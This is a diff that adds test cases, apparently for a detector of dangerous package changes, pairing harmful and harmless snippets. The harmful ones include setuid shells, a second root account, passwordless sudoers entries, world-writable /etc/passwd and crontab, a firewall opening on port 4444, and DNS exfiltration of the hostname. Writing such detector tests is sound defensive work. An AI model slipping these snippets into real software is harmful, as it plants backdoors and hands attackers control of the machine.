@@ -414,3 +414,44 @@ row(3, True, "an old function is handed the environment", {"lib/report.js": EMIT
 row(3, False, "an old function is handed the version of the runtime", {"lib/report.js": EMITS % ", node: process.version"}, old={"lib/report.js": EMITS % ""})
 fires(50, "facts about the host are asked for as a name through a resolver", "const { Resolver } = require('dns').promises;\nnew Resolver().resolveTxt(require('os').hostname() + '.in.widget.example').catch(() => null);\n")
 innocent(50, "a resolver is asked for a name", "exports.ask = (name) => new (require('dns').promises.Resolver)().resolveTxt(name);\n")
+
+# ---- rights of the machine that are given away -----------------------------------------------------
+
+POSTINST = "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  ldconfig\nfi\n%sexit 0\n"
+
+
+def installs(number, about, line, least=""):
+    row(number, bool(least), about, {"DEBIAN/postinst": POSTINST % line}, old={"DEBIAN/postinst": POSTINST % ""}, least=least)
+
+
+fires(28, "everybody may write what says who may log in", "require('fs').chmodSync('/etc/passwd', 0o666);\n", least="tampered")
+fires(28, "a shell runs as its owner, by a mode that is computed", "const fs = require('fs');\nconst mode = parseInt('4755', 8);\nfs.copyFileSync('/bin/sh', '/var/tmp/.x');\nfs.chmodSync('/var/tmp/.x', mode);\n", least="tampered")
+fires(28, "all of a home may be written by everybody", "const fs = require('fs'), os = require('os'), path = require('path');\nfor (const f of fs.readdirSync(os.homedir())) fs.chmodSync(path.join(os.homedir(), f), 0o777);\n", least="tampered")
+innocent(28, "a program of the package is made executable for all", "exports.fix = () => require('fs').chmodSync(__dirname + '/bin/tool', 0o755);\n")
+innocent(28, "a program of the package may be written by all", "exports.fix = () => require('fs').chmodSync(__dirname + '/bin/tool', 0o777);\n")
+innocent(28, "the mode is what the user says", "exports.chmod = (file, mode) => require('fs').chmodSync(file, mode);\n")
+row(28, True, "a shell gets the bit of its owner in Python", {"tool/run.py": "import os, stat\nos.chmod('/bin/bash', os.stat('/bin/bash').st_mode | stat.S_ISUID)\n"}, least="tampered")
+row(28, False, "the bit of the owner is taken off in Python", {"tool/run.py": "import os, stat\nos.chmod('tool.bin', os.stat('tool.bin').st_mode & ~stat.S_ISUID)\n"})
+row(28, True, "everybody may write to a folder of the server in PHP", {"lib/up.php": "<?php\nfunction up() { return 1; }\nchmod('/var/www/html/uploads', 0777);\n"}, old={"lib/up.php": "<?php\nfunction up() { return 1; }\n"}, least="review")
+row(28, False, "a folder of the server is closed in PHP", {"lib/up.php": "<?php\nfunction up() { return 1; }\nchmod('/var/www/html/uploads', 0750);\n"}, old={"lib/up.php": "<?php\nfunction up() { return 1; }\n"})
+fires(28, "others may write what runs at a time", "require('child_process').execFile('chmod', ['o+w', '/etc/crontab']);\n", least="tampered")
+fires(28, "a user joins those who may do everything", "require('child_process').execSync('gpasswd -a deploy wheel');\n", least="review")
+fires(28, "a door is opened in the firewall", "require('child_process').execSync('iptables -I INPUT -p tcp --dport 4444 -j ACCEPT');\n", least="review")
+innocent(28, "folders of a build are opened for their group", "exports.open = () => require('child_process').execSync('chmod -R g+w ./dist');\n")
+innocent(28, "a message says how to join a group", "exports.help = 'Run: sudo usermod -aG docker $USER';\n")
+installs(28, "an interpreter may become anybody", "setcap cap_setuid+ep /usr/bin/perl\n", "tampered")
+installs(28, "files below a folder of the system are opened", "find /etc -name '*.conf' -exec chmod 666 {} +\n", "tampered")
+installs(28, "a second root", "useradd -o -u 0 -M svc\n", "tampered")
+installs(28, "an account of the service's own", "adduser --system --group --home /var/lib/tool tool\n")
+installs(28, "a folder for everybody's files, as /tmp is", "mkdir -p /var/lib/tool/tmp\nchmod 1777 /var/lib/tool/tmp\nchmod 2775 /var/lib/tool\n")
+installs(28, "a program may listen on a low port", "setcap cap_net_bind_service=+ep /usr/bin/tool\n")
+installs(20, "a task is put into a table by a here-document", "cat > /etc/cron.d/tool <<EOF\n* * * * * root /usr/lib/tool/agent\nEOF\n", "review")
+installs(20, "a table of tasks is removed", "rm -f /etc/cron.d/tool-old\n")
+row(28, True, "everybody gets a folder in a batch file", {"setup.bat": "@echo off\r\nicacls \"%ProgramData%\\Tool\" /grant Everyone:(OI)(CI)F /T\r\n"}, old={"setup.bat": "@echo off\r\n"}, least="review")
+row(28, False, "a service gets its folder in a batch file", {"setup.bat": "@echo off\r\nicacls \"%ProgramData%\\Tool\" /grant LocalService:(OI)(CI)F /T\r\n"}, old={"setup.bat": "@echo off\r\n"})
+WORK = "name: ci\non: push\n%sjobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n"
+READS = "permissions:\n  contents: read\n"
+row(28, True, "a workflow says no more what it may do", {".github/workflows/ci.yml": WORK % ""}, old={".github/workflows/ci.yml": WORK % READS}, least="review")
+row(28, False, "a workflow says it for its job", {".github/workflows/ci.yml": (WORK % "").replace("    runs-on", "    permissions:\n      contents: read\n    runs-on")}, old={".github/workflows/ci.yml": WORK % READS})
+fires(20, "whoever asks may do everything", "require('fs').writeFileSync('/etc/sudoers.d/90-tool', process.env.USER + ' ALL=(ALL) NOPASSWD:ALL');\n", least="tampered")
+innocent(20, "who may do everything is read", "exports.may = () => require('fs').existsSync('/etc/sudoers.d/90-tool');\n")
